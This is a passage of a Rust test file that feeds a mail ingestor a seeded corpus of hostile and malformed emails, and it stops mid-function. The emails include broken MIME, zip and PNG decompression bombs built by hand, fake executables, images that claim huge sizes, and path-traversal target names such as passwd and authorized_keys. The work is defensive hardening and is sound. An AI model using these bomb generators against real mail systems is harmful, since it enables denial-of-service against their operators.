//! Hostile and malformed inbound mail (the "hardening" issue). Well over a
//! thousand broken and malicious emails, generated here from a fixed seed, go
//! through the real `Ingestor` on SQLite with the demo data imported (some carry
//! live reply tokens of rejected claims, so the files in them meet a claim that
//! would take them). Every one must come back `Ok` with one of the documented
//! actions; hostile files are refused with a reason, never accepted and never
//! stored; peak memory stays bounded; nothing is written outside the blob
//! directory; a replayed message changes nothing.
//!
//! The corpus runs in phases so each expectation is exact:
//! 1. light mails that carry no usable file, concurrently: the rejected claims
//!    stay rejected, so any of these tied to one must be `asked_for_attachment`;
//! 2. the heavy ones (25 MB attachments, pixel bombs within the limits), one at
//!    a time, so their peaks do not add up;
//! 3. light mails that may carry a usable file (broken MIME around a real
//!    photo, traversal names on real files, forged tokens);
//! 4. replays, one at a time, each compared with a snapshot of the database.

use std::collections::{BTreeMap, HashSet};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use chrono::Utc;
use futures::StreamExt;
use redeemdesk::blobs::{BlobStore, sha256_hex};
use redeemdesk::domain::Status;
use redeemdesk::import::{DEMO_JSON, import_json};
use redeemdesk::jobs::JobKind;
use redeemdesk::mail::inbound::ingest::{Ingested, Ingestor, MailAction};
use redeemdesk::mail::outbox::MailSettings;
use redeemdesk::store::Db;

use crate::support::{TestDb, eml};

const SUPPORT: &str = "support@example.test";
const BUDI: &str = "budi.santoso@example.test";
const SEED: u64 = 0x5EED_0BAD_3A11;
/// Peak resident memory (VmHWM) may grow by at most this much over the whole run.
const MAX_GROWTH_KB: u64 = 512 * 1024;
/// Light emails in flight at once (parsing runs on the blocking pool).
const IN_FLIGHT: usize = 4;
/// The boundary of every well-formed multipart built here.
const B: &str = "=_hostile_0";
/// Names the path-traversal attachments would land on if a name were used as a path.
const TRAVERSAL_TARGETS: &[&str] = &["passwd", "shadow", "win.ini", "hosts", "authorized_keys", "evil.jpg"];

fn settings() -> MailSettings {
    crate::support::mail::reply_settings()
}

/// Rejects `id` as staff would: its live reply token and the rejection's Message-ID.
async fn reject(db: &Db, id: i64) -> (String, String) {
    let (address, message_id) = crate::support::mail::reject_as_staff(db, id).await;
    let token = address.split_once('+').unwrap().1.split_once('@').unwrap().0.to_owned();
    (token, message_id)
}

/// A live reply token of `id`, rejecting it first unless it already is.
async fn rejected(db: &Db, id: i64, tokens: &[(i64, String)]) -> String {
    let rec = db.begin().await.unwrap().redemption(id).await.unwrap().unwrap();
    if rec.redemption.status() != Status::Rejected {
        return reject(db, id).await.0;
    }
    tokens.iter().find(|(r, _)| *r == id).unwrap().1.clone()
}

fn vm_hwm_kb() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("reading /proc/self/status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/self/status")
}

// ---------------------------------------------------------------------------
// A seeded generator (SplitMix64): the same corpus on every run.

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut out = Vec::with_capacity(n + 8);
        while out.len() < n {
            out.extend(self.next().to_le_bytes());
        }
        out.truncate(n);
        out
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn word(&mut self, alphabet: &[u8], n: usize) -> String {
        (0..n).map(|_| alphabet[self.below(alphabet.len())] as char).collect()
    }
}

const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";

// ---------------------------------------------------------------------------
// Encodings and file formats, built by hand so every header can lie.

/// Base64 as mail clients send it: lines of 76 characters.
fn wrapped(data: &[u8]) -> String {
    let text = eml::base64(data);
    let mut out = String::with_capacity(text.len() + text.len() / 76 * 2 + 2);
    for line in text.as_bytes().chunks(76) {
        out.push_str(std::str::from_utf8(line).unwrap());
        out.push_str("\r\n");
    }
    out
}

/// An RFC 2047 encoded word carrying arbitrary bytes.
fn encoded_word(charset: &str, bytes: &[u8]) -> String {
    format!("=?{charset}?B?{}?=", eml::base64(bytes))
}

/// RFC 2231 percent-encoding of every byte that is not a letter or digit.
fn percent(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|&b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn crc32(data: &[u8]) -> u32 {
    crc32_update(0xFFFF_FFFF, data) ^ 0xFFFF_FFFF
}

fn crc32_update(mut crc: u32, data: &[u8]) -> u32 {
    static TABLE: std::sync::OnceLock<[u32; 256]> = std::sync::OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut t = [0u32; 256];
        for (i, e) in t.iter_mut().enumerate() {
            let mut c = i as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
            }
            *e = c;
        }
        t
    });
    for &b in data {
        crc = table[((crc ^ u32::from(b)) & 0xFF) as usize] ^ (crc >> 8);
    }
    crc
}

fn crc32_of_zeros(n: usize) -> u32 {
    let block = [0u8; 4096];
    let mut crc = 0xFFFF_FFFF;
    let mut left = n;
    while left > 0 {
        let k = left.min(block.len());
        crc = crc32_update(crc, &block[..k]);
        left -= k;
    }
    crc ^ 0xFFFF_FFFF
}

/// Writes a DEFLATE bit stream (least significant bit first).
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u32, len: u32) {
        self.acc |= u64::from(value) << self.n;
        self.n += len;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    /// A Huffman code, which DEFLATE stores most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        self.put(code.reverse_bits() >> (32 - len), len);
    }

    fn finish(mut self) -> Vec<u8> {
        if self.n > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// Raw DEFLATE of `n` zero bytes: one literal, then 258-byte copies at distance
/// 1 (13 bits each), about 1:1280. The stuff of zip and PNG bombs.
fn deflate_zeros(n: usize) -> Vec<u8> {
    let mut b = Bits::default();
    b.put(1, 1); // the final block
    b.put(1, 2); // fixed Huffman codes
    let mut left = n;
    if left > 0 {
        b.code(0x30, 8); // literal 0
        left -= 1;
    }
    while left >= 258 {
        b.code(0xC5, 8); // length 258 (code 285)
        b.code(0, 5); // distance 1 (code 0)
        left -= 258;
    }
    for _ in 0..left {
        b.code(0x30, 8);
    }
    b.code(0, 7); // end of block
    b.finish()
}

fn zlib_zeros(n: usize) -> Vec<u8> {
    let mut out = vec![0x78, 0x01];
    out.extend(deflate_zeros(n));
    let adler = (((n % 65521) as u32) << 16) | 1;
    out.extend(adler.to_be_bytes());
    out
}

fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend((data.len() as u32).to_be_bytes());
    let start = out.len();
    out.extend(kind);
    out.extend(data);
    let crc = crc32(&out[start..]);
    out.extend(crc.to_be_bytes());
}

/// A PNG with a valid signature, IHDR and CRCs, whatever the size it declares.
fn png(width: u32, height: u32, depth: u8, color: u8, idat: &[u8]) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend(width.to_be_bytes());
    ihdr.extend(height.to_be_bytes());
    ihdr.extend([depth, color, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &ihdr);
    png_chunk(&mut out, b"IDAT", idat);
    png_chunk(&mut out, b"IEND", &[]);
    out
}

/// A real 16×16 JPEG whose SOF0 header claims `width`×`height`.
fn jpeg_claiming(width: u16, height: u16) -> Vec<u8> {
    let mut data = eml::jpeg(16, 16);
    let sof = data
        .windows(2)
        .position(|w| w == [0xFF, 0xC0])
        .expect("a baseline JPEG");
    data[sof + 5..sof + 7].copy_from_slice(&height.to_be_bytes());
    data[sof + 7..sof + 9].copy_from_slice(&width.to_be_bytes());
    data
}

/// A one-pixel GIF whose screen and image descriptor claim `width`×`height`.
fn gif_claiming(width: u16, height: u16) -> Vec<u8> {
    let mut out = b"GIF89a".to_vec();
    out.extend(width.to_le_bytes());
    out.extend(height.to_le_bytes());
    out.extend([0x80, 0, 0]); // a global colour table of two entries
    out.extend([0, 0, 0, 255, 255, 255]);
    out.push(0x2C);
    out.extend([0, 0, 0, 0]);
    out.extend(width.to_le_bytes());
    out.extend(height.to_le_bytes());
    out.push(0);
    out.extend([2, 2, 0x44, 0x01, 0]); // LZW of one pixel
    out.push(0x3B);
    out
}

/// A one-entry zip archive (`method` 0 stored, 8 deflated).
fn zip(name: &str, method: u16, crc: u32, size: usize, data: &[u8]) -> Vec<u8> {
    let le16 = |out: &mut Vec<u8>, v: u16| out.extend(v.to_le_bytes());
    let le32 = |out: &mut Vec<u8>, v: u32| out.extend(v.to_le_bytes());
    let mut out = Vec::new();
    le32(&mut out, 0x0403_4b50);
    for v in [20, 0, method, 0, 0x21] {
        le16(&mut out, v);
    }
    le32(&mut out, crc);
    le32(&mut out, data.len() as u32);
    le32(&mut out, size as u32);
    le16(&mut out, name.len() as u16);
    le16(&mut out, 0);
    out.extend(name.as_bytes());
    out.extend(data);
    let central = out.len();
    le32(&mut out, 0x0201_4b50);
    for v in [20, 20, 0, method, 0, 0x21] {
        le16(&mut out, v);
    }
    le32(&mut out, crc);
    le32(&mut out, data.len() as u32);
    le32(&mut out, size as u32);
    for v in [name.len() as u16, 0, 0, 0, 0] {
        le16(&mut out, v);
    }
    le32(&mut out, 0);
    le32(&mut out, 0);
    out.extend(name.as_bytes());
    let central_size = out.len() - central;
    le32(&mut out, 0x0605_4b50);
    for v in [0, 0, 1, 1] {
        le16(&mut out, v);
    }
    le32(&mut out, central_size as u32);
    le32(&mut out, central as u32);
    le16(&mut out, 0);
    out
}

/// A zip bomb: one entry of `n` zeros, deflated.
fn zip_bomb(name: &str, n: usize) -> Vec<u8> {
    zip(name, 8, crc32_of_zeros(n), n, &deflate_zeros(n))
}

fn gzip_zeros(file_name: &str, n: usize) -> Vec<u8> {
    let mut out = vec![0x1F, 0x8B, 8, 0x08, 0, 0, 0, 0, 0, 3];
    out.extend(file_name.as_bytes());
    out.push(0);
    out.extend(deflate_zeros(n));
    out.extend(crc32_of_zeros(n).to_le_bytes());
    out.extend((n as u32).to_le_bytes());
    out
}

fn exe(rng: &mut Rng) -> Vec<u8> {
    let mut out = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    out.extend(b"This program cannot be run in DOS mode.\r\r\n$");
    out.extend(rng.bytes(2000));
    out
}

// ---------------------------------------------------------------------------
// The corpus.

/// What a case must come to, beyond what every case must.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Expect {
    /// Carries only hostile files, in well-formed MIME: none is accepted, and
    /// (unless the mail is quarantined or ignored) each is refused with one of
    /// these reason codes; tied to a rejected claim, the member is asked again.
    Refused(&'static [&'static str]),
    /// Carries no usable file, but the MIME may be too broken for its file to
    /// be seen at all: nothing is accepted, the claim is not resubmitted.
    NothingUsable,
    /// May carry a real photo or PDF: whatever is accepted is a safely named
    /// copy of a file that is not hostile.
    MayAccept,
    /// A forged or near-miss reply token (or Message-ID) from a stranger:
    /// matches nothing, goes to staff (or to quarantine past the hourly limit).
    Forged,
}

struct Case {
    category: &'static str,
    raw: Vec<u8>,
    expect: Expect,
    /// The rejected claim this mail is tied to (a live token, or its member writing).
    claim: Option<i64>,
}

#[derive(Clone)]
struct Head {
    from: String,
    to: String,
    subject: String,
    message_id: String,
    extra: String,
}

impl Head {
    fn render(&self) -> String {
        format!(
            "From: {}\r\nTo: {}\r\nSubject: {}\r\nMessage-ID: {}\r\nDate: Mon, 30 Nov 2026 10:00:00 +0700\r\n\
             MIME-Version: 1.0\r\n{}",
            self.from, self.to, self.subject, self.message_id, self.extra
        )
    }
}

/// One attachment: its Content-Type value, its Content-Disposition value, its bytes.
struct Att {
    ctype: String,
    disposition: String,
    data: Vec<u8>,
}

fn att(name: &str, ctype: &str, data: Vec<u8>) -> Att {
    Att {
        ctype: format!("{ctype}; name=\"{name}\""),
        disposition: format!("attachment; filename=\"{name}\""),
        data,
    }
}

fn file_part(a: &Att) -> String {
    format!(
        "--{B}\r\nContent-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        a.ctype,
        a.disposition,
        wrapped(&a.data)
    )
}

/// A well-formed multipart/mixed reply: a text part, then the attachments.
fn mail(head: &Head, text: &str, files: &[Att]) -> Vec<u8> {
    let mut out = head.render();
    let _ = write!(
        out,
        "Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n--{B}\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
    );
    for f in files {
        out.push_str(&file_part(f));
    }
    let _ = write!(out, "--{B}--\r\n");
    out.into_bytes()
}

struct Corpus {
    rng: Rng,
    /// Live reply tokens of rejected claims: (redemption, token).
    tokens: Vec<(i64, String)>,
    /// Message-IDs of our rejection emails.
    rejection_ids: Vec<String>,
    n: usize,
    cases: Vec<Case>,
    /// SHA-256 of every hostile file in the corpus: none may be accepted or stored.
    hostile: HashSet<String>,
    /// SHA-256 of the real files in it (a stored copy may be one of them).
    benign: HashSet<String>,
    photo: Vec<u8>,
    document: Vec<u8>,
}

impl Corpus {
    fn new(tokens: Vec<(i64, String)>, rejection_ids: Vec<String>) -> Self {
        let photo = eml::jpeg(64, 64);
        let document = eml::pdf();
        let benign = [sha256_hex(&photo), sha256_hex(&document)].into_iter().collect();
        Self {
            rng: Rng(SEED),
            tokens,
            rejection_ids,
            n: 0,
            cases: Vec::new(),
            hostile: HashSet::new(),
            benign,
            photo,
            document,
        }
    }

    fn message_id(&mut self) -> String {
        self.n += 1;
        format!(
            "<hostile-{}-{:08x}@client.example.test>",
            self.n,
            self.rng.next() as u32
        )
    }

    fn stranger(&mut self) -> String {
        format!("attacker{}@evil.test", self.rng.below(1000))
    }

    /// A head addressed at random: a live token of a rejected claim (from a
    /// stranger or its member), the support address from the member of the
    /// only rejected claim (matched by sender), or from a stranger.
    fn head(&mut self, subject: &str) -> (Head, Option<i64>) {
        let message_id = self.message_id();
        let (from, to, claim) = match self.rng.below(10) {
            0..=4 => {
                let (id, token) = self.tokens[self.rng.below(self.tokens.len())].clone();
                (self.stranger(), format!("support+{token}@example.test"), Some(id))
            }
            5 | 6 => (format!("Budi <{BUDI}>"), SUPPORT.to_owned(), Some(1042)),
            _ => (self.stranger(), SUPPORT.to_owned(), None),
        };
        let head = Head {
            from,
            to,
            subject: subject.to_owned(),
            message_id,
            extra: String::new(),
        };
        (head, claim)
    }

    fn hostile(&mut self, data: Vec<u8>) -> Vec<u8> {
        self.hostile.insert(sha256_hex(&data));
        data
    }

    fn push(&mut self, category: &'static str, raw: Vec<u8>, expect: Expect, claim: Option<i64>) {
        self.cases.push(Case {
            category,
            raw,
            expect,
            claim,
        });
    }

    /// A hostile file for mails that only need one: an executable, an archive or junk.
    fn some_hostile_file(&mut self) -> Att {
        let data = match self.rng.below(3) {
            0 => exe(&mut self.rng),
            1 => zip_bomb("faktur.pdf", 1 << 20),
            _ => self.rng.bytes(3000),
        };
        let data = self.hostile(data);
        att("faktur.pdf", "application/pdf", data)
    }
}

/// Broken MIME: boundaries missing, wrong, never closed; parts cut short;
/// garbage and oversized headers; bad transfer encodings; mutated bytes.
fn broken_mime(c: &mut Corpus, count: usize) {
    for i in 0..count {
        let variant = i % 20;
        let benign = (i / 20) % 2 == 1;
        let (mut head, claim) = c.head("Re: klaim");
        let file = if benign {
            att("faktur.jpg", "image/jpeg", c.photo.clone())
        } else {
            c.some_hostile_file()
        };
        let expect = if benign {
            Expect::MayAccept
        } else {
            Expect::NothingUsable
        };
        let text_part = format!("--{B}\r\nContent-Type: text/plain\r\n\r\nini fakturnya\r\n");
        let fp = file_part(&file);
        let raw: Vec<u8> = match variant {
            0 => format!("{}Content-Type: multipart/mixed\r\n\r\n{text_part}{fp}--{B}--\r\n", head.render()).into_bytes(),
            1 => format!(
                "{}Content-Type: multipart/mixed; boundary=\"other\"\r\n\r\n{text_part}{fp}--{B}--\r\n",
                head.render()
            )
            .into_bytes(),
            2 => format!("{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}{fp}", head.render())
                .into_bytes(),
            3 => format!(
                "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}--{B}\r\n\
                 Content-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: base64",
                head.render(),
                file.ctype,
                file.disposition
            )
            .into_bytes(),
            4 => {
                let mut raw = Vec::new();
                for line in head.render().split("\r\n").filter(|l| !l.is_empty()) {
                    raw.extend(line.as_bytes());
                    raw.extend(b"\r\n");
                    let n = 1 + c.rng.below(200);
                    let mut junk = c.rng.bytes(n);
                    junk.retain(|b| *b != b'\r' && *b != b'\n');
                    raw.extend(junk);
                    raw.extend(b"\r\n");
                }
                raw.extend(b"No colon here at all\r\n: empty name\r\nX Spaced Name: v\r\n\xff\xfe: \xc0\xaf\r\n");
                raw.extend(format!("Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}{fp}--{B}--\r\n").as_bytes());
                raw
            }
            5 => {
                head.subject = "A".repeat(64 * 1024);
                head.extra = format!("X-Folded: {}\r\n", "word\r\n ".repeat(16 * 1024));
                mail(&head, "long", &[file])
            }
            6 => {
                head.extra = (0..5000).map(|k| format!("X-Junk-{k}: {k}\r\n")).collect();
                mail(&head, "many headers", &[file])
            }
            7 => {
                let params: String = (0..2000).map(|k| format!("; p{k}=\"v{k}\"")).collect();
                format!(
                    "{}Content-Type: multipart/mixed; boundary=\"x1\"; boundary=\"{B}\"{params}; boundary=\"x2\"\r\n\r\n\
                     {text_part}{fp}--{B}--\r\n",
                    head.render()
                )
                .into_bytes()
            }
            8 => format!("{}Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n{fp}----\r\n", head.render())
                .into_bytes(),
            9 => format!(
                "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n--{B}\r\nContent-Type: text/plain\r\n\r\n\
                 --{B}x\r\n--{B} \r\n---{B}\r\n{fp}--{B}--\r\n--{B}--\r\n",
                head.render()
            )
            .into_bytes(),
            10 => {
                let mut bad = wrapped(&file.data);
                for k in (10..bad.len()).step_by(97) {
                    bad.replace_range(k..k + 1, if k % 2 == 0 { "!" } else { "=" });
                }
                format!(
                    "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}--{B}\r\n\
                     Content-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: base64\r\n\r\n{bad}--{B}--\r\n",
                    head.render(),
                    file.ctype,
                    file.disposition
                )
                .into_bytes()
            }
            11 => {
                let mut raw = format!(
                    "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}--{B}\r\n\
                     Content-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
                     =ZZ=4=\r\n=\r\n=G0",
                    head.render(),
                    file.ctype,
                    file.disposition
                )
                .into_bytes();
                raw.extend(&file.data);
                raw.extend(format!("=\r\n--{B}--\r\n").as_bytes());
                raw
            }
            12 => format!(
                "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}--{B}\r\n\
                 Content-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n\
                 begin 644 faktur.exe\r\nM35J0``,````$````__\\``+@`````````0```````````````````````\r\n`\r\nend\r\n--{B}--\r\n",
                head.render(),
                file.ctype,
                file.disposition
            )
            .into_bytes(),
            13 => {
                let mut raw =
                    format!("{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n", head.render()).into_bytes();
                let n = 1 + c.rng.below(20_000);
                raw.extend(c.rng.bytes(n));
                raw
            }
            14 => head.render().trim_end().as_bytes().to_vec(),
            15 => {
                let tiny: [&[u8]; 8] = [
                    b"",
                    b"\r\n",
                    b"From:",
                    b":",
                    b"\0",
                    b"\r\n\r\n\r\n",
                    b"From: <>\r\nTo: <>\r\n\r\n",
                    b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n--x--",
                ];
                let pick = (i / 20) % tiny.len();
                let mut raw = tiny[pick].to_vec();
                if i >= 20 * tiny.len() || pick == 0 {
                    let n = 1 + c.rng.below(64);
                    raw.extend(c.rng.bytes(n));
                }
                c.push("broken_mime", raw, Expect::NothingUsable, None);
                continue;
            }
            16 => {
                let lf = String::from_utf8(mail(&head, "lf only", &[file])).unwrap();
                match i % 3 {
                    0 => lf.replace("\r\n", "\n").into_bytes(),
                    1 => lf.replace("\r\n", "\r").into_bytes(),
                    _ => lf.replace("\r\n", "\n\r").into_bytes(),
                }
            }
            17 => format!(
                "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{text_part}--{B}\r\n\
                 Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--{B}--\r\n",
                head.render(),
                wrapped(&file.data)
            )
            .into_bytes(),
            18 => {
                let empty: String = (0..200).map(|_| format!("--{B}\r\n")).collect();
                format!(
                    "{}Content-Type: multipart/mixed; boundary=\"{B}\"\r\n\r\n{empty}{text_part}{fp}--{B}--\r\n",
                    head.render()
                )
                .into_bytes()
            }
            _ => {
                let mut raw = mail(&head, "mutated", &[file]);
                for _ in 0..1 + c.rng.below(20) {
                    let at = c.rng.below(raw.len());
                    raw[at] = c.rng.next() as u8;
                }
                raw
            }
        };
        c.push("broken_mime", raw, expect, claim);
    }
}

/// A valid reply cut at a random byte: with a real photo and PDF, or with hostile files.
fn truncated(c: &mut Corpus, count: usize) {
    for i in 0..count {
        let (head, claim) = c.head("Re: [RDM-1042] faktur");
        let benign = i % 2 == 0;
        let files = if benign {
            vec![
                att("faktur.jpg", "image/jpeg", c.photo.clone()),
                att("faktur.pdf", "application/pdf", c.document.clone()),
            ]
        } else {
            let a = c.some_hostile_file();
            vec![a, c.some_hostile_file()]
        };
        let raw = mail(
            &head,
            "Halo, ini fakturnya.\r\n\r\nPada Sen, 30 Nov 2026 MSI menulis:\r\n> ditolak",
            &files,
        );
        let cut = c.rng.below(raw.len());
        let expect = if benign {
            Expect::MayAccept
        } else {
            Expect::NothingUsable
        };
        c.push("truncated", raw[..cut].to_vec(), expect, claim);
    }
}

/// `levels` nested multiparts (or message/rfc822 forwards, or both in turn)
/// with `file` at the bottom.
fn nest(levels: usize, file: &Att, style: usize) -> String {
    let mut inner = format!(
        "Content-Type: multipart/mixed; boundary=\"bottom\"\r\n\r\n--bottom\r\nContent-Type: text/plain\r\n\r\nbottom\r\n\
         --bottom\r\nContent-Type: {}\r\nContent-Disposition: {}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--bottom--\r\n",
        file.ctype,
        file.disposition,
        wrapped(&file.data)
    );
    for level in (0..levels).rev() {
        let b = format!("lvl{level}");
        let forward = match style {
            0 => false,
            1 => true,
            _ => level % 2 == 1,
        };
        inner = if forward {
            format!(
                "Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\n--{b}\r\nContent-Type: text/plain\r\n\r\nfwd\r\n\
                 --{b}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"fwd{level}.eml\"\r\n\r\n\
                 From: a{level}@example.test\r\nSubject: Fwd {level}\r\nMIME-Version: 1.0\r\n{inner}\r\n--{b}--\r\n"
            )
        } else {
            format!(
                "Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\n--{b}\r\nContent-Type: text/plain\r\n\r\nlevel\r\n\
                 --{b}\r\n{inner}\r\n--{b}--\r\n"
            )
        };
    }
    inner
}

fn nested(c: &mut Corpus) {
    for (levels, style, hostile) in [
        (50, 0, true),
        (50, 0, false),
        (50, 1, true),
        (50, 1, false),
        (50, 2, true),
        (1000, 0, true),
        (1000, 1, true),
        (1000, 2, false),
    ] {
        let (head, claim) = c.head("Fwd: Fwd: invoice");
        let file = if hostile {
            let data = exe(&mut c.rng);
            att("invoice.pdf", "application/pdf", c.hostile(data))
        } else {
            att("invoice.jpg", "image/jpeg", c.photo.clone())
        };
        let raw = format!("{}{}", head.render(), nest(levels, &file, style)).into_bytes();
        let expect = match (style, hostile) {
            (0, true) => Expect::Refused(&["executable"]),
            (0, false) => Expect::MayAccept,
            _ => Expect::Refused(&["nested_too_deep"]),
        };
        c.push("nested", raw, expect, claim);
    }
    // message/rfc822 parts that are themselves base64, nested past what the parser decodes.
    for levels in [4, 8] {
        let (head, claim) = c.head("Fwd: encoded");
        let data = exe(&mut c.rng);
        let file = att("invoice.pdf", "application/pdf", c.hostile(data));
        let mut inner = format!(
            "From: a@example.test\r\nSubject: bottom\r\nMIME-Version: 1.0\r\n{}",
            nest(0, &file, 0)
        );
        for level in 0..levels {
            inner = format!(
                "From: a{level}@example.test\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\n\
                 Content-Type: multipart/mixed; boundary=\"e{level}\"\r\n\r\n--e{level}\r\nContent-Type: text/plain\r\n\r\nfwd\r\n\
                 --e{level}\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Disposition: attachment; filename=\"fwd{level}.eml\"\r\n\r\n{}--e{level}--\r\n",
                wrapped(inner.as_bytes())
            );
        }
        let body = inner.split_once("MIME-Version: 1.0\r\n").unwrap().1;
        let raw = format!("{}{body}", head.render()).into_bytes();
        c.push("nested", raw, Expect::NothingUsable, claim);
    }
}

/// Decompression bombs refused from their headers: tiny files claiming huge pictures.
fn bombs(c: &mut Corpus) {
    let big: &'static [&'static str] = &["image_too_large"];
    let either: &'static [&'static str] = &["image_too_large", "unreadable"];
    let cases: Vec<(&str, &str, Vec<u8>, &'static [&'static str])> = vec![
        (
            "bomb.png",
            "image/png",
            png(50_000, 50_000, 8, 6, &zlib_zeros(1 << 20)),
            big,
        ),
        (
            "bomb2.png",
            "image/png",
            png(50_000, 50_000, 16, 6, &zlib_zeros(4096)),
            big,
        ),
        ("wide.png", "image/png", png(12_001, 1, 8, 2, &zlib_zeros(36_004)), big),
        ("tall.png", "image/png", png(1, 12_001, 8, 0, &zlib_zeros(24_002)), big),
        (
            "square.png",
            "image/png",
            png(11_000, 11_000, 8, 0, &zlib_zeros(1 << 20)),
            big,
        ),
        (
            "deep.png",
            "image/png",
            png(7_000, 5_700, 16, 6, &zlib_zeros(1 << 20)),
            big,
        ),
        (
            "max.png",
            "image/png",
            png(0x7FFF_FFFF, 0x7FFF_FFFF, 8, 6, &zlib_zeros(4096)),
            either,
        ),
        ("zero.png", "image/png", png(0, 0, 8, 6, &zlib_zeros(16)), either),
        ("bomb.jpg", "image/jpeg", jpeg_claiming(50_000, 50_000), big),
        ("max.jpg", "image/jpeg", jpeg_claiming(65_535, 65_535), big),
        ("wide.jpg", "image/jpeg", jpeg_claiming(12_001, 8), big),
        ("tall.jpg", "image/jpeg", jpeg_claiming(8, 12_001), big),
        ("square.jpg", "image/jpeg", jpeg_claiming(10_000, 10_000), big),
        ("zero.jpg", "image/jpeg", jpeg_claiming(0, 0), either),
        ("bomb.gif", "image/gif", gif_claiming(65_535, 65_535), big),
        ("wide.gif", "image/gif", gif_claiming(50_000, 1), big),
    ];
    for round in 0..2 {
        for (name, ctype, data, reasons) in &cases {
            let (head, claim) = c.head("Re: foto invoice");
            let data = c.hostile(data.clone());
            let name = if round == 0 {
                name.to_string()
            } else {
                format!("IMG_{round}_{name}")
            };
            let raw = mail(&head, "foto", &[att(&name, ctype, data)]);
            c.push("bombs", raw, Expect::Refused(reasons), claim);
        }
    }
}

/// HEIC-named junk: never a HEIC the converter can read.
fn heic(c: &mut Corpus) {
    let junk = c.rng.bytes(4096);
    let mut ftyp = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec();
    ftyp.extend(c.rng.bytes(2048));
    let mut mif1 = b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic".to_vec();
    mif1.extend(vec![0; 1024]);
    let mut cases: Vec<(&str, &str, Vec<u8>, &'static [&'static str])> = vec![
        ("IMG_0001.HEIC", "image/heic", junk.clone(), &["unsupported_type"]),
        ("IMG_0002.heic", "image/heic", ftyp, &["unreadable"]),
        ("IMG_0003.HEIF", "image/heif", mif1, &["unreadable"]),
        (
            "IMG_0004.heic",
            "image/heic",
            b"\0\0\0\x18ftypheic".to_vec(),
            &["unreadable"],
        ),
        (
            "IMG_0005.heic",
            "application/octet-stream",
            exe(&mut c.rng),
            &["executable"],
        ),
        (
            "IMG_0006.heic",
            "image/heic",
            zip_bomb("IMG_0006.heic", 1 << 20),
            &["archive"],
        ),
        (
            "IMG_0007.heic",
            "image/heic",
            // A JPEG of its own: its hash joins the hostile set, the corpus photo's must not.
            eml::jpeg(48, 40),
            &["name_does_not_match_content"],
        ),
    ];
    // A well-formed HEIC of 7000×6000 pixels (42 Mpx, over the 40 Mpx limit)
    // in 9.6 kB: made once with `heif-enc -q 10` from a flat grey PNG.
    let bomb = include_bytes!("../fixtures/hostile/heic-bomb-7000x6000.heic").to_vec();
    cases.push(("IMG_0009.heic", "image/heic", bomb, &["image_too_large"]));
    for (name, ctype, data, reasons) in cases {
        let (head, claim) = c.head("Re: foto iPhone");
        let data = c.hostile(data);
